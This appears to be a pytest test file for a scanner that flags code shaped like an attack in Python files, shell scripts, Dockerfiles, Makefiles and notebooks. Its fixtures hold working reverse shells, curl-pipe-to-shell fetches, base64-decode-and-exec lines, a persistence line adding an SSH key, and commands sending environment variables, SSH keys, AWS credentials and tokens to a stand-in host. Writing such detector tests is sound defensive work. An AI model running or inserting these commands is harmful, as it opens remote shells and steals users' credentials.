"""The shape of an attack in Python, scripts and notebooks; and code that does the same things for good reasons."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.facts.program import AttackShape, Shape
from tests.conftest import read

SHELL, DECODED, FETCHED = Shape.REMOTE_SHELL, Shape.DECODES_AND_RUNS, Shape.DOWNLOADS_AND_RUNS
SECRETS, PERSISTS = Shape.SENDS_SECRETS, Shape.PERSISTS
PYTHON = [
    (
        "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\n"
        "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('/bin/sh')",
        SHELL,
    ),
    (
        "import socket, subprocess\ndef f():\n    s = socket.create_connection(('192.0.2.1', 1))\n"
        "    subprocess.Popen(['/bin/bash', '-i'], stdin=s, stdout=s)",
        SHELL,
    ),
    ("import os\ndef f(): os.system('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')", SHELL),
    ("import base64\ndef f(x): exec(base64.b64decode(x))", DECODED),
    (
        "import zlib, base64\ndef f(x):\n    y = zlib.decompress(base64.b64decode(x))\n"
        "    eval(compile(y, 'x', 'exec'))",
        DECODED,
    ),
    ("import marshal, base64\nmarshal.loads(base64.b64decode('x'))", DECODED),
    ("import requests\ndef f(u):\n    r = requests.get(u)\n    exec(r.text)", FETCHED),
    ("from urllib.request import urlopen as o\nimport os\ndef f(u): os.system(o(u).read().decode())", FETCHED),
    (
        "import socket, subprocess\ndef f():\n    s = socket.socket()\n"
        "    while 1: subprocess.run(s.recv(9).decode(), shell=True)",
        FETCHED,
    ),
    ("import subprocess\nsubprocess.run('curl -s http://192.0.2.1/x | sh', shell=True)", FETCHED),
    ("import os, requests\ndef f(): requests.post('http://192.0.2.1', json=dict(os.environ))", SECRETS),
    ("import os, urllib.request as u\ndef f(): u.urlopen('http://192.0.2.1/' + os.environ['HF_TOKEN'])", SECRETS),
    (
        "import pathlib, requests\ndef f():\n    k = pathlib.Path('~/.ssh/id_rsa').expanduser().read_text()\n"
        "    requests.post('http://192.0.2.1', data=k)",
        SECRETS,
    ),
    (
        "import requests\ndef f():\n"
        "    with open('/root/.aws/credentials') as h: requests.post('http://192.0.2.1', files={'f': h})",
        SECRETS,
    ),
    (
        "from huggingface_hub import get_token\nimport requests\nrequests.post('http://192.0.2.1', data=get_token())",
        SECRETS,
    ),
]
ORDINARY = [
    "import requests, os\n"
    "requests.get('https://huggingface.co', headers={'Authorization': 'Bearer ' + os.environ['HF_TOKEN']})",
    "import subprocess, requests\nv = requests.get('https://example.org').json()['v']\n"
    "subprocess.run(['git', 'checkout', v])",
    "import base64, io\nfrom PIL import Image\nImage.open(io.BytesIO(base64.b64decode('x')))",
    "import socket\ns = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]",
    "import os, subprocess\nsubprocess.run(['python', 'train.py'], env=os.environ.copy())",
    "from huggingface_hub import login\nimport os\nlogin(token=os.environ['HF_TOKEN'])",
    "import pickle, base64\npickle.loads(base64.b64decode('x'))",
]
SCRIPTS = [
    ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", SHELL),
    ("nc 192.0.2.1 4444 -e /bin/sh", SHELL),
    ("rm f; mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 1 > f", SHELL),
    ("curl -fsSL http://192.0.2.1/x |\\\n  sudo bash", FETCHED),
    ("wget -qO- http://192.0.2.1/x | python3 -", FETCHED),
    ('bash -c "$(curl -fsSL http://192.0.2.1/x)"', FETCHED),
    ("bash <(curl -s http://192.0.2.1/x)", FETCHED),
    ("echo aWQ= | base64 -d | sh", DECODED),
    ('eval "$(echo aWQ= | base64 --decode)"', DECODED),
    ("curl -X POST --data @$HOME/.ssh/id_rsa http://192.0.2.1", SECRETS),
    ("env | curl -d @- http://192.0.2.1", SECRETS),
    ("echo ssh-rsa AAA >> ~/.ssh/authorized_keys", PERSISTS),
]
PLAIN = [
    "curl -O https://example.org/model.tar && tar xf model.tar",
    "wget https://example.org/x.sh -O x.txt",
    "pip install -r requirements.txt",
    "python train.py --nc 4 --exec 1",
    "# curl http://192.0.2.1/x | sh",
    "cat file | sh run.sh",
    "base64 -d x.b64 > x",
    "torchrun --nproc_per_node 8 train.py | tee log",
]


def shapes(name: str, text: str) -> list[Shape]:
    reading = read(name, text.encode())
    assert reading.obstacle is None
    return [fact.shape for fact in reading.facts if isinstance(fact, AttackShape)]


@pytest.mark.parametrize(("source", "shape"), PYTHON)
def test_python_with_the_shape_of_an_attack_is_told(source: str, shape: Shape) -> None:
    assert shape in shapes("train.py", source)


@pytest.mark.parametrize("source", ORDINARY)
def test_python_that_serves_a_purpose_is_not(source: str) -> None:
    assert shapes("train.py", source) == []


@pytest.mark.parametrize(("command", "shape"), SCRIPTS)
@pytest.mark.parametrize("name", ["run.sh", "Dockerfile", "Makefile", "setup"])
def test_commands_with_the_shape_of_an_attack_are_told(name: str, command: str, shape: Shape) -> None:
    start = {"Dockerfile": "FROM x\nRUN ", "Makefile": "all:\n\t", "setup": "#!/bin/sh\n"}.get(name, "")
    assert shape in shapes(name, f"{start}{command}\n")


@pytest.mark.parametrize("command", PLAIN)
def test_ordinary_commands_are_not(command: str) -> None:
    assert shapes("run.sh", f"{command}\n") == []


def notebook(*cells: str) -> str:
    rows = [{"cell_type": "code", "source": cell.splitlines(keepends=True)} for cell in cells]
    return json.dumps({"cells": [{"cell_type": "markdown", "source": "curl x | sh"}, *rows], "nbformat": 4})


def test_cells_of_a_notebook_are_one_program_with_commands_between() -> None:
    text = notebook(
        "%matplotlib inline\nimport base64", "!pip install x\nfor a in b:\n    !ls {a}\nexec(base64.b64decode(a))"
    )
    assert shapes("a.ipynb", text) == [DECODED]
    assert shapes("a.ipynb", notebook("x = 1\n!curl http://192.0.2.1 | sh")) == [FETCHED]
    assert shapes("a.ipynb", notebook("%%bash\ncurl http://192.0.2.1 | sh")) == [FETCHED]
    assert shapes("a.ipynb", notebook("import torch\nx?\ny = !ls\n%time f()")) == []


@pytest.mark.parametrize("text", ["{}", '{"cells": 1}', "[", '{"cells": [{"cell_type": "code", "source": "def ("}]}'])
def test_a_notebook_that_is_none_is_an_obstacle(text: str) -> None:
    assert read("a.ipynb", text.encode()).obstacle is not None


@given(st.text(alphabet="curl|sh nc-e$()`>&/devtcp\\\n bas64", max_size=200))
def test_any_script_is_read_to_its_end(text: str) -> None:
    assert read("run.sh", text.encode()).obstacle is None
